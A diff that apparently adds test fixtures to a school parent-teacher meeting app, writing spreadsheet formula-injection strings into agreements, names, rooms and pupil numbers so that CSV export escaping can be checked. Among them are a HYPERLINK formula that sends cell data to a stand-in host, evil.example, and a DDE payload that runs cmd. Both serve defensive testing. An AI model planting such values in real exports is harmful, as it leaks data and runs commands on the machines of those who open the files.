@@ -139,3 +139,35 @@ async def talks_with_agreements(db: Database, clock: ManualClock, tz: ZoneInfo) 
     await typed("ellen", sem, agreements.AGREEMENT, SEM_DRAFT, owner="pupil")
     staff = {name: people[name].id for name in ("karim", "ruben", "ellen")}
     return Talks(lina, kerem, sem, again.booking.booking_id, staff)
+
+
+# Text a spreadsheet would take for a formula, as people type it: a teacher's agreement
+# begun with a dash, a link formula, a parent's name beginning with "@", a teacher's with
+# "+", a place with "=" and a pupil number with a tab (OWASP's CSV injection examples).
+AS_FORMULAS = {
+    "agreement": "- elke dag lezen",
+    "link": '=HYPERLINK("http://evil.example/?"&A2,"klik")',
+    "parent": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "teacher": "+Karim Bouzid",
+    "place": "=Lokaal 4",
+    "number": "\t1017",
+}
+
+
+async def typed_like_formulas(db: Database) -> None:
+    """Lina's own agreement, Kerem's corrected one, Rania, Karim, the room of Karim's talks
+    and Lina's pupil number rewritten as `AS_FORMULAS`."""
+    async with db.transaction() as conn:
+        for sql, params in (
+            ("UPDATE agreements SET text = ? WHERE text = ?", ("agreement", LINA_WORDS)),
+            ("UPDATE agreements SET text = ? WHERE text = ?", ("link", KEREM_WORDS)),
+            ("UPDATE guardians SET name = ? WHERE name = ?", ("parent", "Rania Haddad")),
+            ("UPDATE staff SET name = ? WHERE name = ?", ("teacher", "Karim Bouzid")),
+            ("UPDATE pupils SET external_id = ? WHERE external_id = ?", ("number", "1017")),
+        ):
+            key, was = params
+            await conn.execute(sql, (AS_FORMULAS[key], was))
+        await conn.execute(
+            "UPDATE slots SET place = ? WHERE staff_id = (SELECT id FROM staff WHERE name = ?)",
+            (AS_FORMULAS["place"], AS_FORMULAS["teacher"]),
+        )
